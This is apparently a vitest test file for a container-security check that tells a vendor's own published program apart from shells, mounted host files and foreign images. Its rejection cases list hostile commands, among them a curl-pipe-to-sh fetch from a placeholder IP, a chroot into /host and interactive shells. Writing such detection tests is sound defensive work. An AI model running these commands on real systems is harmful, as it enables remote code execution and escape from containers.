import { describe, expect, it } from 'vitest';
import { bind, containerWith } from '../../testing/container';
import { contextWith } from '../../testing/context';
import { isForEverybody, isPlanned, isVendorProgram } from './vendor-program';

const run = (imageRef: string, ...args: string[]) =>
  containerWith({ imageRef, path: args[0] ?? '/entrypoint', args: args.slice(1) });
const isVendor = (imageRef: string, ...args: string[]): boolean =>
  isVendorProgram(run(imageRef, ...args), contextWith());

describe("a vendor's program", () => {
  it('is a product of a known publisher as it was published', () => {
    expect(isVendor('quay.io/ceph/ceph:v18', '/usr/bin/ceph-osd', '-f')).toBe(true);
    expect(isVendor('portainer/agent:2.21')).toBe(true);
    expect(isVendor('grafana/grafana', '/bin/sh', '/run.sh')).toBe(true);
    expect(isVendor('grafana/grafana', 'tini', '--', '/run.sh', 'server', '--watch')).toBe(true);
  });
  it('is not what was brought along', () => {
    const brought = { imageRef: 'grafana/grafana', mounts: [bind('/', '/mnt')] };
    const isBrought = (path: string, ...args: string[]): boolean =>
      !isVendorProgram(containerWith({ ...brought, path, args }), contextWith());
    expect([isBrought('/mnt/opt/x'), isBrought('sh', '/mnt/opt/x.sh'), isBrought('/run.sh')]).toEqual([
      true,
      true,
      false,
    ]);
  });
  it.each([
    ['evil/agent', '/agent'],
    ['alpine', 'sleep', '9'],
    ['python:3.12', '/app'],
    ['shop-web', '/app'],
    ['localhost/agent', '/agent'],
    ['quay.io/ceph/ceph:v18', 'bash', '-c', 'curl -s http://198.51.100.1/a | sh'],
    ['grafana/grafana', 'chroot', '/host', 'sh'],
    ['grafana/grafana', 'sh'],
    ['grafana/grafana', '/bin/bash', '-i'],
    ['grafana/grafana', '/run.sh', 'sleep', '1d'],
    ['grafana/grafana', 'tini', '--', 'tail', '-f', '/dev/null'],
    ['grafana/grafana', 'sh', '/tmp/x.sh'],
    ['grafana/grafana', '/dev/shm/x'],
  ])('is not %s told %s', (imageRef, ...args) => {
    expect(isVendor(imageRef, ...args)).toBe(false);
  });
});

it('counts what everybody pulls, and not what a project builds', () => {
  expect(
    ['alpine:3', 'zoolu/ubuntu', 'nginx:1.27', 'curlimages/curl'].filter((one) => !isForEverybody(run(one))),
  ).toEqual([]);
  expect(['shop-web', 'acme/backup', 'portainer/agent'].filter((one) => isForEverybody(run(one)))).toEqual([]);
});

it('takes the word of a project for an image of its own, and for no shell line', () => {
  expect(isPlanned(run('acme/backup'))).toBe(true);
  expect(isPlanned(run('acme/backup', 'sh', '-c', 'echo x'))).toBe(false);
  expect(isPlanned(run('alpine', 'crond'))).toBe(false);
  expect(isPlanned(containerWith({ imageRef: 'acme/backup', labels: {} }))).toBe(false);
});
